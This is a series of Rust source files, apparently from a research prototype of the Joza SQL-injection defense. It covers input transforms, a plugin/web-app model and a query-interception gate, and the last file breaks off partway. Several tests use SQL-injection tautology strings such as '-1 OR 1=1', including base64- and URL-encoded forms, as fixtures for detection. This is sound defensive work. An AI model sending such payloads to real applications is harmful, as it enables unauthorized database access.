        let t = InputTransform::Base64Decode;
        assert_eq!(t.apply("LTEgT1IgMT0x"), "-1 OR 1=1");
        assert_eq!(t.apply("!!notb64!!"), "!!notb64!!");
    }

    #[test]
    fn pipeline_order_matters() {
        let p =
            TransformPipeline::new().with(InputTransform::Trim).with(InputTransform::MagicQuotes);
        assert_eq!(p.apply("  a'b  "), r"a\'b");
        assert_eq!(p.len(), 2);
        assert!(!p.is_empty());
    }

    #[test]
    fn wordpress_presets() {
        assert_eq!(TransformPipeline::wordpress().apply("x'y"), r"x\'y");
        assert_eq!(TransformPipeline::wordpress_authenticated().apply(" x'y "), r"x\'y");
    }

    #[test]
    fn replace_rule() {
        let t = InputTransform::Replace { from: "<".into(), to: "&lt;".into() };
        assert_eq!(t.apply("<b>"), "&lt;b>");
    }

    #[test]
    fn urldecode_transform() {
        let t = InputTransform::UrlDecode;
        assert_eq!(t.apply("%27+OR+1%3D1"), "' OR 1=1");
    }
}

#[cfg(test)]
mod transform_tests {
    use super::*;

    #[test]
    fn magic_quotes_escapes_quotes_and_backslashes() {
        let t = InputTransform::MagicQuotes;
        assert_eq!(t.apply("it's"), r"it\'s");
        assert_eq!(t.apply(r#"a"b"#), r#"a\"b"#);
        assert_eq!(t.apply(r"a\b"), r"a\\b");
        assert_eq!(t.apply("plain"), "plain");
    }

    #[test]
    fn trim_and_lowercase() {
        assert_eq!(InputTransform::Trim.apply("  x \t"), "x");
        assert_eq!(InputTransform::Lowercase.apply("SeLeCt"), "select");
    }

    #[test]
    fn base64_passthrough_on_invalid() {
        let t = InputTransform::Base64Decode;
        assert_eq!(t.apply("aGk="), "hi");
        assert_eq!(t.apply("not base64 !!"), "not base64 !!");
    }

    #[test]
    fn urldecode_transform() {
        assert_eq!(InputTransform::UrlDecode.apply("a%20b%27"), "a b'");
    }

    #[test]
    fn replace_transform() {
        let t = InputTransform::Replace { from: "--".into(), to: "".into() };
        assert_eq!(t.apply("a--b--c"), "abc");
    }

    #[test]
    fn pipeline_applies_in_order() {
        // Trim before magic quotes vs after gives different results on
        // quote-adjacent whitespace — order matters and is preserved.
        let p1 =
            TransformPipeline::new().with(InputTransform::Trim).with(InputTransform::MagicQuotes);
        assert_eq!(p1.apply("  ' "), r"\'");
        let p2 = TransformPipeline::new()
            .with(InputTransform::Lowercase)
            .with(InputTransform::Replace { from: "select".into(), to: "".into() });
        assert_eq!(p2.apply("SELECTx"), "x");
        assert_eq!(p2.len(), 2);
        assert!(!p2.is_empty());
    }

    #[test]
    fn wordpress_pipelines() {
        // Anonymous traffic: magic quotes only.
        assert_eq!(TransformPipeline::wordpress().apply(" o'k "), r" o\'k ");
        // Authenticated traffic additionally trims.
        assert_eq!(TransformPipeline::wordpress_authenticated().apply(" o'k "), r"o\'k");
    }
}
