//! Web application and plugin model.
//!
//! A [`WebApp`] is a set of PHP-subset source files: framework ("core")
//! files that contribute vocabulary fragments but are not routable, plus
//! [`Plugin`]s routed by slug. The paper's installer "recursively parses
//! all source code files reachable from the top directory" (§IV-A) —
//! [`WebApp::all_sources`] is that reachable set.

use crate::transform::TransformPipeline;
use joza_phpsim::ast::Stmt;
use joza_phpsim::compile::{compile, Chunk};
use joza_phpsim::parser::{parse_program, PhpParseError};
use std::collections::HashMap;
use std::sync::Arc;
use std::time::Duration;

/// A plugin: routable PHP-subset source with metadata.
#[derive(Debug, Clone, PartialEq)]
pub struct Plugin {
    /// Route slug and display name.
    pub name: String,
    /// Version string (testbed metadata).
    pub version: String,
    /// PHP-subset source text. This single text is both fragment-extraction
    /// input and the code the interpreter runs — the property PTI's
    /// soundness rests on.
    pub source: String,
    /// Input transformations this plugin applies *in addition to* the
    /// framework pipeline (e.g. a plugin that base64-decodes a parameter
    /// does so in its own source; this field is for declarative extras).
    pub extra_transforms: TransformPipeline,
    /// Simulated page-render cost ([`crate::cost`]): theme/template work a
    /// real WordPress route performs that the PHP-subset interpreter does
    /// not. Zero (the default) disables the model; the benchmark harness
    /// sets route-calibrated values (see `DESIGN.md` substitutions).
    pub render_cost: Duration,
}

impl Plugin {
    /// Creates a plugin with no extra transforms and no render cost.
    pub fn new(name: &str, version: &str, source: &str) -> Self {
        Plugin {
            name: name.to_string(),
            version: version.to_string(),
            source: source.to_string(),
            extra_transforms: TransformPipeline::new(),
            render_cost: Duration::ZERO,
        }
    }

    /// Sets the simulated render cost (builder style).
    #[must_use]
    pub fn with_render_cost(mut self, cost: Duration) -> Self {
        self.render_cost = cost;
        self
    }
}

/// A web application: core sources + plugins + framework input pipeline.
#[derive(Debug, Clone, Default)]
pub struct WebApp {
    /// Application name.
    pub name: String,
    /// Non-routable framework sources (WordPress core files).
    core_sources: Vec<String>,
    /// Plugins by slug.
    plugins: HashMap<String, Plugin>,
    /// Framework-level input transformation pipeline, applied to every
    /// request input before plugin code runs (WordPress: magic quotes).
    pub input_pipeline: TransformPipeline,
    /// Parse cache: route → parsed program, shared by reference so the
    /// request path never clones statement lists.
    parsed: HashMap<String, Arc<Vec<Stmt>>>,
    /// Compile cache: route → bytecode chunk for the VM engine.
    compiled: HashMap<String, Arc<Chunk>>,
}

impl WebApp {
    /// Creates an empty application with a pass-through input pipeline.
    pub fn new(name: &str) -> Self {
        WebApp { name: name.to_string(), ..Default::default() }
    }

    /// Creates an application with the WordPress input pipeline
    /// (magic quotes on every input).
    pub fn wordpress_style(name: &str) -> Self {
        WebApp {
            name: name.to_string(),
            input_pipeline: TransformPipeline::wordpress(),
            ..Default::default()
        }
    }

    /// Adds a non-routable core source file (contributes fragments only).
    pub fn add_core_source(&mut self, source: &str) {
        self.core_sources.push(source.to_string());
    }

    /// Registers a plugin under its name.
    pub fn add_plugin(&mut self, plugin: Plugin) {
        self.plugins.insert(plugin.name.clone(), plugin);
    }

    /// Looks up a plugin by slug.
    pub fn plugin(&self, slug: &str) -> Option<&Plugin> {
        self.plugins.get(slug)
    }

    /// Mutable plugin lookup (used by the benchmark harness to assign
    /// calibrated render costs).
    pub fn plugin_mut(&mut self, slug: &str) -> Option<&mut Plugin> {
        self.plugins.get_mut(slug)
    }

    /// Iterates plugins in arbitrary order.
    pub fn plugins(&self) -> impl Iterator<Item = &Plugin> {
        self.plugins.values()
    }

    /// Replaces a plugin's source text, invalidating its parse- and
    /// compile-cache entries (a stale cached program or chunk would
    /// silently keep serving the old code). Returns false when no such
    /// plugin exists.
    pub fn set_plugin_source(&mut self, slug: &str, source: &str) -> bool {
        match self.plugins.get_mut(slug) {
            Some(p) => {
                p.source = source.to_string();
                self.parsed.remove(slug);
                self.compiled.remove(slug);
                true
            }
            None => false,
        }
    }

    /// Number of registered plugins.
    pub fn plugin_count(&self) -> usize {
        self.plugins.len()
    }

    /// Every source file reachable from the top directory: core sources
    /// then plugin sources. This is the installer's fragment-extraction
    /// input (§IV-A).
    pub fn all_sources(&self) -> Vec<&str> {
        let mut out: Vec<&str> = self.core_sources.iter().map(String::as_str).collect();
        let mut slugs: Vec<&String> = self.plugins.keys().collect();
        slugs.sort();
        for slug in slugs {
            out.push(&self.plugins[slug].source);
        }
        out
    }

    /// Parses (and caches) the program for a route.
    ///
    /// # Errors
    ///
    /// Propagates [`PhpParseError`] from the plugin source.
    pub fn program(&mut self, slug: &str) -> Result<&[Stmt], PhpParseError> {
        if !self.parsed.contains_key(slug) {
            let src = self
                .plugins
                .get(slug)
                .map(|p| p.source.clone())
                .ok_or_else(|| PhpParseError { at: 0, message: format!("no route {slug}") })?;
            let prog = parse_program(&src)?;
            self.parsed.insert(slug.to_string(), Arc::new(prog));
        }
        Ok(self.parsed.get(slug).expect("just inserted"))
    }

    /// Like [`WebApp::program`], but hands back the shared [`Arc`] so the
    /// tree-walk serving path can run the program without cloning the
    /// statement list per request.
    ///
    /// # Errors
    ///
    /// Propagates [`PhpParseError`] from the plugin source.
    pub fn program_arc(&mut self, slug: &str) -> Result<Arc<Vec<Stmt>>, PhpParseError> {
        self.program(slug)?;
        Ok(Arc::clone(self.parsed.get(slug).expect("cached by program()")))
    }

    /// Compiles (and caches) the bytecode chunk for a route — the VM
    /// engine's per-route artifact, built once and served by [`Arc`].
    /// Compilation itself is total; only parsing can fail.
    ///
    /// # Errors
    ///
    /// Propagates [`PhpParseError`] from the plugin source.
    pub fn chunk(&mut self, slug: &str) -> Result<Arc<Chunk>, PhpParseError> {
        if !self.compiled.contains_key(slug) {
            let program = self.program_arc(slug)?;
            self.compiled.insert(slug.to_string(), Arc::new(compile(&program)));
        }
        Ok(Arc::clone(self.compiled.get(slug).expect("just inserted")))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plugin_registry() {
        let mut app = WebApp::new("t");
        app.add_plugin(Plugin::new("a", "1.0", "$x = 1;"));
        app.add_plugin(Plugin::new("b", "2.0", "$y = 2;"));
        assert_eq!(app.plugin_count(), 2);
        assert!(app.plugin("a").is_some());
        assert!(app.plugin("z").is_none());
    }

    #[test]
    fn all_sources_includes_core_and_plugins() {
        let mut app = WebApp::new("t");
        app.add_core_source("$core = 'SELECT';");
        app.add_plugin(Plugin::new("a", "1.0", "$x = 1;"));
        let sources = app.all_sources();
        assert_eq!(sources.len(), 2);
        assert!(sources[0].contains("core"));
    }

    #[test]
    fn program_cache_and_errors() {
        let mut app = WebApp::new("t");
        app.add_plugin(Plugin::new("ok", "1", "$x = 1;"));
        app.add_plugin(Plugin::new("bad", "1", "$x = ;"));
        assert_eq!(app.program("ok").unwrap().len(), 1);
        assert!(app.program("bad").is_err());
        assert!(app.program("missing").is_err());
        // Cached second call.
        assert_eq!(app.program("ok").unwrap().len(), 1);
    }
}
