//! The query-interception seam.
//!
//! Joza installs itself by wrapping "all standard PHP functions and classes
//! that interact with backend databases" (§IV-A). In this framework the
//! wrapping is structural: every `mysql_query` the interpreter executes is
//! routed through the server's gate before it may reach the database. The
//! gate also receives a copy of the raw request inputs at request start —
//! the paper's preprocessing step, which "stores a copy of all inputs to
//! the web application to preserve them for NTI analysis" (§IV-B), i.e.
//! *before* magic quotes or other transformations run.
//!
//! Two API generations coexist here:
//!
//! * [`GateFactory`] / [`GateSession`] — the current, multi-worker API.
//!   One shared, immutable factory (`&self`) hands out an independent
//!   session per request; all per-request mutability lives in the session,
//!   so N server threads can drive one engine concurrently.
//! * [`QueryGate`] — the legacy single-worker API: one stateful object
//!   driven through `begin_route`/`begin_request`/`check` on `&mut self`.
//!   [`LegacyGateSession`] adapts any `QueryGate` into a session so old
//!   gates keep working behind [`Server::handle_gated`].
//!
//! [`Server::handle_gated`]: crate::server::Server::handle_gated

use crate::request::InputSource;
use std::sync::atomic::{AtomicU64, Ordering};

/// A raw (pre-transformation) request input.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RawInput {
    /// Where the value arrived from.
    pub source: InputSource,
    /// Parameter name.
    pub name: String,
    /// Untransformed value.
    pub value: String,
}

/// The gate's verdict for one query.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum GateDecision {
    /// Query is safe: forward to the DBMS.
    Allow,
    /// Attack detected; apply *error virtualization*: fail the query as if
    /// the DBMS had rejected it and let application logic handle the error
    /// (§IV-E).
    ErrorVirtualize,
    /// Attack detected; apply *termination*: kill the request (the Joza
    /// default, §IV-E).
    Terminate,
}

/// The per-request side of the gate: checks the queries of exactly one
/// request.
///
/// A session is created by [`GateFactory::session`] with the request's
/// route and raw inputs already bound, so `check` is the only operation
/// left. Sessions are single-threaded values (one per worker); all
/// cross-request state lives behind the factory.
pub trait GateSession {
    /// Called for every intercepted query of this request. The returned
    /// decision is enforced by the server.
    fn check(&mut self, sql: &str) -> GateDecision;

    /// Checks a batch of queries in order, returning one decision per
    /// query. Semantically identical to calling [`GateSession::check`]
    /// per element — the default does exactly that — but batch-aware
    /// engines override it to amortize per-check overhead (input
    /// snapshots, statistics flushes) across the whole batch.
    fn check_batch(&mut self, sqls: &[String]) -> Vec<GateDecision> {
        sqls.iter().map(|sql| self.check(sql)).collect()
    }

    /// Whether the stored cell `(table, column)` is *dirty* — reachable
    /// by attacker-controlled writes according to the static store/load
    /// pass — so values fetched from it must be treated as taint
    /// sources. The server consults this before offering fetched values
    /// via [`GateSession::capture_db_input`]. Default: `false` (gates
    /// without second-order awareness capture nothing).
    fn dirty_cell(&self, _table: &str, _column: &str) -> bool {
        false
    }

    /// Feeds one value fetched from a dirty cell back into the session
    /// as a DB-sourced input for the remainder of this request — the
    /// second-order analogue of the raw request inputs NTI/PTI match
    /// against. Default: ignored.
    fn capture_db_input(&mut self, _table: &str, _column: &str, _value: &str) {}
}

/// The shared side of the gate: a thread-safe protection engine that hands
/// out one [`GateSession`] per request.
///
/// The factory is consulted through `&self` and must be [`Sync`]: one
/// instance serves every server worker. Per-request state (the input
/// snapshot NTI analyzes, a fast-path route decision, …) is captured at
/// session creation — the factory-side analogue of the legacy
/// `begin_route` + `begin_request` pair.
pub trait GateFactory: Sync {
    /// Opens a session for one request targeting `route` with the given
    /// raw (pre-transformation) inputs.
    fn session<'a>(&'a self, route: &str, inputs: &[RawInput]) -> Box<dyn GateSession + 'a>;
}

/// A protection system sitting between the application and the DBMS —
/// the **legacy single-worker API**.
///
/// New code should implement [`GateFactory`]; this trait remains for
/// stateful gates driven by one thread (and for the tests that exercise
/// them). [`LegacyGateSession`] bridges the two worlds.
pub trait QueryGate {
    /// Called once per request, before [`QueryGate::begin_request`], with
    /// the route (endpoint) the request targets. Default: ignored — only
    /// route-aware gates such as [`StaticFastPath`] care.
    fn begin_route(&mut self, _route: &str) {}

    /// Called once per request with the raw inputs, before any application
    /// code runs.
    fn begin_request(&mut self, inputs: &[RawInput]);

    /// Called for every intercepted query. The returned decision is
    /// enforced by the server.
    fn check(&mut self, sql: &str) -> GateDecision;
}

/// Adapts a legacy [`QueryGate`] into a [`GateSession`].
///
/// [`LegacyGateSession::begin`] performs the old per-request handshake
/// (`begin_route` then `begin_request`) and the resulting session forwards
/// `check`. This is how [`Server::handle_gated`] keeps accepting old-style
/// gates on top of the session-driven pipeline.
///
/// [`Server::handle_gated`]: crate::server::Server::handle_gated
pub struct LegacyGateSession<'a> {
    gate: &'a mut dyn QueryGate,
}

impl<'a> LegacyGateSession<'a> {
    /// Runs the legacy per-request handshake on `gate` and wraps it.
    pub fn begin(gate: &'a mut dyn QueryGate, route: &str, inputs: &[RawInput]) -> Self {
        gate.begin_route(route);
        gate.begin_request(inputs);
        LegacyGateSession { gate }
    }
}

impl GateSession for LegacyGateSession<'_> {
    fn check(&mut self, sql: &str) -> GateDecision {
        self.gate.check(sql)
    }
}

/// A gate that allows everything (the unprotected baseline).
#[derive(Debug, Clone, Copy, Default)]
pub struct AllowAll;

impl QueryGate for AllowAll {
    fn begin_request(&mut self, _inputs: &[RawInput]) {}

    fn check(&mut self, _sql: &str) -> GateDecision {
        GateDecision::Allow
    }
}

impl GateSession for AllowAll {
    fn check(&mut self, _sql: &str) -> GateDecision {
        GateDecision::Allow
    }
}

impl GateFactory for AllowAll {
    fn session<'a>(&'a self, _route: &str, _inputs: &[RawInput]) -> Box<dyn GateSession + 'a> {
        Box::new(AllowAll)
    }
}

/// Counters describing how often the static fast path fired.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct FastPathStats {
    /// Requests that hit a statically taint-free route.
    pub fast_requests: u64,
    /// Requests that fell through to the wrapped dynamic gate.
    pub slow_requests: u64,
    /// Queries short-circuited to `Allow` without dynamic analysis.
    pub fast_queries: u64,
    /// Queries checked by the wrapped dynamic gate.
    pub slow_queries: u64,
}

/// Lock-free counter cell behind [`FastPathStats`], shared by all sessions
/// of one [`StaticFastPath`].
#[derive(Debug, Default)]
struct SharedFastPathStats {
    fast_requests: AtomicU64,
    slow_requests: AtomicU64,
    fast_queries: AtomicU64,
    slow_queries: AtomicU64,
}

impl SharedFastPathStats {
    fn count_request(&self, fast: bool) {
        if fast {
            self.fast_requests.fetch_add(1, Ordering::Relaxed);
        } else {
            self.slow_requests.fetch_add(1, Ordering::Relaxed);
        }
    }

    fn count_query(&self, fast: bool) {
        if fast {
            self.fast_queries.fetch_add(1, Ordering::Relaxed);
        } else {
            self.slow_queries.fetch_add(1, Ordering::Relaxed);
        }
    }

    fn snapshot(&self) -> FastPathStats {
        FastPathStats {
            fast_requests: self.fast_requests.load(Ordering::Relaxed),
            slow_requests: self.slow_requests.load(Ordering::Relaxed),
            fast_queries: self.fast_queries.load(Ordering::Relaxed),
            slow_queries: self.slow_queries.load(Ordering::Relaxed),
        }
    }
}

/// A static-analysis fast path in front of a dynamic gate.
///
/// Holds the set of routes a static taint pass (`joza-sast`) proved
/// *taint-free*: no query issued by the route can carry
/// attacker-influenced bytes. For those routes `check` returns
/// [`GateDecision::Allow`] immediately, skipping NTI/PTI entirely; every
/// other route is delegated to the wrapped gate untouched.
///
/// Soundness rests on the analysis side: a route may only be listed here
/// if *every* query it can issue is provably free of request-derived
/// data, so the skipped dynamic analysis could never have found an
/// attack. Inputs are always forwarded to the wrapped gate — its
/// per-request input snapshot stays consistent even on fast-path
/// requests (the route decision can be revised per request, and NTI
/// needs the inputs if it ever runs).
///
/// Works in both API generations: wrap a [`QueryGate`] and it is a
/// `QueryGate`; wrap a [`GateFactory`] and it is a `GateFactory` whose
/// sessions short-circuit per request. Counters are atomic, so one
/// factory-side wrapper serves all workers.
#[derive(Debug)]
pub struct StaticFastPath<G> {
    inner: G,
    taint_free: std::collections::BTreeSet<String>,
    current_fast: bool,
    stats: SharedFastPathStats,
}

impl<G> StaticFastPath<G> {
    /// Wraps `inner`, short-circuiting the routes in `taint_free_routes`.
    pub fn new(inner: G, taint_free_routes: impl IntoIterator<Item = String>) -> Self {
        StaticFastPath {
            inner,
            taint_free: taint_free_routes.into_iter().collect(),
            current_fast: false,
            stats: SharedFastPathStats::default(),
        }
    }

    /// The wrapped dynamic gate.
    pub fn inner(&self) -> &G {
        &self.inner
    }

    /// Fast/slow request and query counters (a consistent snapshot).
    pub fn stats(&self) -> FastPathStats {
        self.stats.snapshot()
    }

    /// Whether `route` is on the static fast path.
    pub fn is_taint_free(&self, route: &str) -> bool {
        self.taint_free.contains(route)
    }
}

impl<G: QueryGate> QueryGate for StaticFastPath<G> {
    fn begin_route(&mut self, route: &str) {
        // Route classification only — requests are counted when one
        // actually begins, so a begin_route with no request behind it
        // can't drift the stats away from real traffic.
        self.current_fast = self.taint_free.contains(route);
        self.inner.begin_route(route);
    }

    fn begin_request(&mut self, inputs: &[RawInput]) {
        self.stats.count_request(self.current_fast);
        // Always forwarded: the inner gate's input snapshot must stay
        // request-accurate even when this request never consults it.
        self.inner.begin_request(inputs);
    }

    fn check(&mut self, sql: &str) -> GateDecision {
        self.stats.count_query(self.current_fast);
        if self.current_fast {
            return GateDecision::Allow;
        }
        self.inner.check(sql)
    }
}

/// One request's view of a [`StaticFastPath`] factory.
struct FastPathSession<'a> {
    fast: bool,
    stats: &'a SharedFastPathStats,
    inner: Box<dyn GateSession + 'a>,
}

impl GateSession for FastPathSession<'_> {
    fn check(&mut self, sql: &str) -> GateDecision {
        self.stats.count_query(self.fast);
        if self.fast {
            return GateDecision::Allow;
        }
        self.inner.check(sql)
    }

    // Second-order hooks are forwarded unconditionally: a route on the
    // fast path was proven taint-free *including* DB-sourced taint, so
    // the inner gate will simply never see a dirty fetch there.
    fn dirty_cell(&self, table: &str, column: &str) -> bool {
        self.inner.dirty_cell(table, column)
    }

    fn capture_db_input(&mut self, table: &str, column: &str, value: &str) {
        self.inner.capture_db_input(table, column, value);
    }
}

impl<F: GateFactory> GateFactory for StaticFastPath<F> {
    fn session<'a>(&'a self, route: &str, inputs: &[RawInput]) -> Box<dyn GateSession + 'a> {
        let fast = self.taint_free.contains(route);
        self.stats.count_request(fast);
        // The inner session is always opened so the wrapped engine's
        // input snapshot stays request-accurate (see type docs).
        Box::new(FastPathSession {
            fast,
            stats: &self.stats,
            inner: self.inner.session(route, inputs),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn allow_all_is_transparent() {
        let mut g = AllowAll;
        QueryGate::begin_request(&mut g, &[]);
        assert_eq!(QueryGate::check(&mut g, "SELECT 1"), GateDecision::Allow);
        let mut s = AllowAll.session("any", &[]);
        assert_eq!(s.check("SELECT * FROM users WHERE 1=1 OR 1=1"), GateDecision::Allow);
    }

    /// A dynamic gate that denies everything and counts how often it was
    /// actually consulted.
    struct CountingDeny {
        begin_requests: usize,
        checks: usize,
    }

    impl QueryGate for CountingDeny {
        fn begin_request(&mut self, _inputs: &[RawInput]) {
            self.begin_requests += 1;
        }
        fn check(&mut self, _sql: &str) -> GateDecision {
            self.checks += 1;
            GateDecision::Terminate
        }
    }

    #[test]
    fn fast_path_short_circuits_taint_free_routes() {
        let inner = CountingDeny { begin_requests: 0, checks: 0 };
        let mut g = StaticFastPath::new(inner, vec!["clean".to_string()]);

        g.begin_route("clean");
        g.begin_request(&[]);
        assert_eq!(g.check("SELECT 1"), GateDecision::Allow);
        assert_eq!(g.check("SELECT 2"), GateDecision::Allow);
        assert_eq!(g.inner().checks, 0, "dynamic gate must not run on the fast path");
        assert_eq!(g.inner().begin_requests, 1, "inputs are still forwarded");

        g.begin_route("dirty");
        g.begin_request(&[]);
        assert_eq!(g.check("SELECT 3"), GateDecision::Terminate);
        assert_eq!(g.inner().checks, 1);

        let stats = g.stats();
        assert_eq!(stats.fast_requests, 1);
        assert_eq!(stats.slow_requests, 1);
        assert_eq!(stats.fast_queries, 2);
        assert_eq!(stats.slow_queries, 1);
    }

    #[test]
    fn fast_path_defaults_to_slow_without_begin_route() {
        // A caller that never announces the route gets full dynamic
        // protection — the conservative default.
        let inner = CountingDeny { begin_requests: 0, checks: 0 };
        let mut g = StaticFastPath::new(inner, vec!["clean".to_string()]);
        g.begin_request(&[]);
        assert_eq!(g.check("SELECT 1"), GateDecision::Terminate);
    }

    #[test]
    fn fast_path_route_decision_resets_per_request() {
        let inner = CountingDeny { begin_requests: 0, checks: 0 };
        let mut g = StaticFastPath::new(inner, vec!["clean".to_string()]);
        g.begin_route("clean");
        assert_eq!(g.check("SELECT 1"), GateDecision::Allow);
        // Next request targets a different route: fast flag must not leak.
        g.begin_route("other");
        assert_eq!(g.check("SELECT 1"), GateDecision::Terminate);
        assert!(g.is_taint_free("clean"));
        assert!(!g.is_taint_free("other"));
    }

    #[test]
    fn begin_route_alone_does_not_count_requests() {
        // Routing probes with no request behind them (health checks,
        // abandoned connections) must not drift the request counters.
        let inner = CountingDeny { begin_requests: 0, checks: 0 };
        let mut g = StaticFastPath::new(inner, vec!["clean".to_string()]);
        g.begin_route("clean");
        g.begin_route("dirty");
        g.begin_route("clean");
        let stats = g.stats();
        assert_eq!(stats.fast_requests, 0);
        assert_eq!(stats.slow_requests, 0);
        g.begin_request(&[]);
        assert_eq!(g.stats().fast_requests, 1);
        assert_eq!(g.stats().slow_requests, 0);
    }

    /// A factory that denies everything, counting sessions and checks.
    #[derive(Default)]
    struct DenyFactory {
        sessions: std::sync::atomic::AtomicUsize,
        checks: std::sync::atomic::AtomicUsize,
    }

    struct DenySession<'a>(&'a DenyFactory);

    impl GateSession for DenySession<'_> {
        fn check(&mut self, _sql: &str) -> GateDecision {
            self.0.checks.fetch_add(1, Ordering::Relaxed);
            GateDecision::Terminate
        }
    }

    impl GateFactory for DenyFactory {
        fn session<'a>(&'a self, _route: &str, _inputs: &[RawInput]) -> Box<dyn GateSession + 'a> {
            self.sessions.fetch_add(1, Ordering::Relaxed);
            Box::new(DenySession(self))
        }
    }

    #[test]
    fn factory_fast_path_short_circuits_per_session() {
        let g = StaticFastPath::new(DenyFactory::default(), vec!["clean".to_string()]);

        let mut fast = g.session("clean", &[]);
        assert_eq!(fast.check("SELECT 1"), GateDecision::Allow);
        assert_eq!(fast.check("SELECT 2"), GateDecision::Allow);
        drop(fast);
        assert_eq!(g.inner().checks.load(Ordering::Relaxed), 0);
        assert_eq!(g.inner().sessions.load(Ordering::Relaxed), 1, "inner session still opened");

        let mut slow = g.session("dirty", &[]);
        assert_eq!(slow.check("SELECT 3"), GateDecision::Terminate);
        drop(slow);
        assert_eq!(g.inner().checks.load(Ordering::Relaxed), 1);

        let stats = g.stats();
        assert_eq!(stats.fast_requests, 1);
        assert_eq!(stats.slow_requests, 1);
        assert_eq!(stats.fast_queries, 2);
        assert_eq!(stats.slow_queries, 1);
    }

    #[test]
    fn factory_sessions_are_independent() {
        // Two live sessions of one factory must not share the fast flag.
        let g = StaticFastPath::new(DenyFactory::default(), vec!["clean".to_string()]);
        let mut a = g.session("clean", &[]);
        let mut b = g.session("dirty", &[]);
        assert_eq!(a.check("SELECT 1"), GateDecision::Allow);
        assert_eq!(b.check("SELECT 1"), GateDecision::Terminate);
        assert_eq!(a.check("SELECT 2"), GateDecision::Allow);
    }

    #[test]
    fn legacy_adapter_runs_handshake_and_forwards_checks() {
        let mut inner = CountingDeny { begin_requests: 0, checks: 0 };
        {
            let mut s = LegacyGateSession::begin(&mut inner, "route", &[]);
            assert_eq!(s.check("SELECT 1"), GateDecision::Terminate);
        }
        assert_eq!(inner.begin_requests, 1);
        assert_eq!(inner.checks, 1);
    }
}
