//! The query-interception seam.
//!
//! Joza installs itself by wrapping "all standard PHP functions and classes
//! that interact with backend databases" (§IV-A). In this framework the
//! wrapping is structural: every `mysql_query` the interpreter executes is
//! routed through the server's [`QueryGate`] before it may reach the
//! database. The gate also receives a copy of the raw request inputs at
//! request start — the paper's preprocessing step, which "stores a copy of
//! all inputs to the web application to preserve them for NTI analysis"
//! (§IV-B), i.e. *before* magic quotes or other transformations run.

use crate::request::InputSource;

/// A raw (pre-transformation) request input.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RawInput {
    /// Where the value arrived from.
    pub source: InputSource,
    /// Parameter name.
    pub name: String,
    /// Untransformed value.
    pub value: String,
}

/// The gate's verdict for one query.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum GateDecision {
    /// Query is safe: forward to the DBMS.
    Allow,
    /// Attack detected; apply *error virtualization*: fail the query as if
    /// the DBMS had rejected it and let application logic handle the error
    /// (§IV-E).
    ErrorVirtualize,
    /// Attack detected; apply *termination*: kill the request (the Joza
    /// default, §IV-E).
    Terminate,
}

/// A protection system sitting between the application and the DBMS.
pub trait QueryGate {
    /// Called once per request, before [`QueryGate::begin_request`], with
    /// the route (endpoint) the request targets. Default: ignored — only
    /// route-aware gates such as [`StaticFastPath`] care.
    fn begin_route(&mut self, _route: &str) {}

    /// Called once per request with the raw inputs, before any application
    /// code runs.
    fn begin_request(&mut self, inputs: &[RawInput]);

    /// Called for every intercepted query. The returned decision is
    /// enforced by the server.
    fn check(&mut self, sql: &str) -> GateDecision;
}

/// A gate that allows everything (the unprotected baseline).
#[derive(Debug, Clone, Copy, Default)]
pub struct AllowAll;

impl QueryGate for AllowAll {
    fn begin_request(&mut self, _inputs: &[RawInput]) {}

    fn check(&mut self, _sql: &str) -> GateDecision {
        GateDecision::Allow
    }
}

/// Counters describing how often the static fast path fired.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct FastPathStats {
    /// Requests that hit a statically taint-free route.
    pub fast_requests: u64,
    /// Requests that fell through to the wrapped dynamic gate.
    pub slow_requests: u64,
    /// Queries short-circuited to `Allow` without dynamic analysis.
    pub fast_queries: u64,
    /// Queries checked by the wrapped dynamic gate.
    pub slow_queries: u64,
}

/// A static-analysis fast path in front of a dynamic gate.
///
/// Holds the set of routes a static taint pass (`joza-sast`) proved
/// *taint-free*: no query issued by the route can carry
/// attacker-influenced bytes. For those routes `check` returns
/// [`GateDecision::Allow`] immediately, skipping NTI/PTI entirely; every
/// other route is delegated to the wrapped gate untouched.
///
/// Soundness rests on the analysis side: a route may only be listed here
/// if *every* query it can issue is provably free of request-derived
/// data, so the skipped dynamic analysis could never have found an
/// attack. `begin_request` is always forwarded — the wrapped gate's
/// per-request input snapshot stays consistent even on fast-path
/// requests (the route decision can be revised per request, and NTI
/// needs the inputs if it ever runs).
#[derive(Debug, Clone)]
pub struct StaticFastPath<G> {
    inner: G,
    taint_free: std::collections::BTreeSet<String>,
    current_fast: bool,
    stats: FastPathStats,
}

impl<G: QueryGate> StaticFastPath<G> {
    /// Wraps `inner`, short-circuiting the routes in `taint_free_routes`.
    pub fn new(inner: G, taint_free_routes: impl IntoIterator<Item = String>) -> Self {
        StaticFastPath {
            inner,
            taint_free: taint_free_routes.into_iter().collect(),
            current_fast: false,
            stats: FastPathStats::default(),
        }
    }

    /// The wrapped dynamic gate.
    pub fn inner(&self) -> &G {
        &self.inner
    }

    /// Fast/slow request and query counters.
    pub fn stats(&self) -> FastPathStats {
        self.stats
    }

    /// Whether `route` is on the static fast path.
    pub fn is_taint_free(&self, route: &str) -> bool {
        self.taint_free.contains(route)
    }
}

impl<G: QueryGate> QueryGate for StaticFastPath<G> {
    fn begin_route(&mut self, route: &str) {
        self.current_fast = self.taint_free.contains(route);
        if self.current_fast {
            self.stats.fast_requests += 1;
        } else {
            self.stats.slow_requests += 1;
        }
        self.inner.begin_route(route);
    }

    fn begin_request(&mut self, inputs: &[RawInput]) {
        // Always forwarded: the inner gate's input snapshot must stay
        // request-accurate even when this request never consults it.
        self.inner.begin_request(inputs);
    }

    fn check(&mut self, sql: &str) -> GateDecision {
        if self.current_fast {
            self.stats.fast_queries += 1;
            return GateDecision::Allow;
        }
        self.stats.slow_queries += 1;
        self.inner.check(sql)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn allow_all_is_transparent() {
        let mut g = AllowAll;
        g.begin_request(&[]);
        assert_eq!(g.check("SELECT 1"), GateDecision::Allow);
        assert_eq!(g.check("SELECT * FROM users WHERE 1=1 OR 1=1"), GateDecision::Allow);
    }

